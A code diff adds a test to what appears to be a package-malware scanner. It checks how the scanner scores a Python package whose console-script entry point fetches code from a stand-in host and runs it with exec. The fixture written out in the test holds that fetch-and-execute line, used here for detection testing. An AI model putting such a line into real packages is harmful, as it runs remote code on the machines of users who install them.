@@ -1369,6 +1369,30 @@ exec('x = 1')
     expect(weighted(compat)).toEqual([])
   })
 
+  it('counts the function a console script calls as code that runs when the package is used', async () => {
+    const cli = `import requests
+def main():
+    exec(requests.get('https://files.example.net/agent').text)
+def unused():
+    exec(requests.get('https://files.example.net/agent').text)
+`
+    const weight = (r: ScanReport) => scoring(r, 'downloads-and-executes')?.weight
+    // declared in setup.py, setup.cfg, pyproject.toml, or a wheel's entry_points.txt
+    const setupPyEntry = setupPy(`entry_points = {'console_scripts': ['agent = synthetic_pkg.cli:main']}\n`)
+    expect(weight(await sdist({ 'setup.py': setupPyEntry, 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }))).toBe(90)
+    const cfg = '[metadata]\nname = synthetic-pkg\n\n[options.entry_points]\nconsole_scripts =\n    agent = synthetic_pkg.cli:main\n'
+    expect(weight(await sdist({ 'setup.cfg': cfg, 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }))).toBe(90)
+    const pyproject = '[project]\nname = "synthetic-pkg"\n\n[project.scripts]\nagent = "synthetic_pkg.cli:main"\n'
+    expect(weight(await sdist({ 'pyproject.toml': pyproject, 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }))).toBe(90)
+    const entryPoints = { 'synthetic_pkg-1.0.0.dist-info/entry_points.txt': '[console_scripts]\nagent = synthetic_pkg.cli:main\n', 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }
+    expect(weight(await wheel(entryPoints))).toBe(90)
+    // a plugin group is not a command; a function no command names still waits for a user
+    const plugin = { 'synthetic_pkg-1.0.0.dist-info/entry_points.txt': '[pytest11]\nagent = synthetic_pkg.cli:main\n', 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }
+    expect(weight(await wheel(plugin))).toBe(40)
+    const other = { 'synthetic_pkg-1.0.0.dist-info/entry_points.txt': '[console_scripts]\nagent = synthetic_pkg.cli:unused_name\n', 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }
+    expect(weight(await wheel(other))).toBe(40)
+  })
+
   it('resolves `node .` to the main entry and runs it at install', async () => {
     const files = { 'lib/main.js': DECODE_EVAL }
     const manifest = { main: 'lib/main.js' }
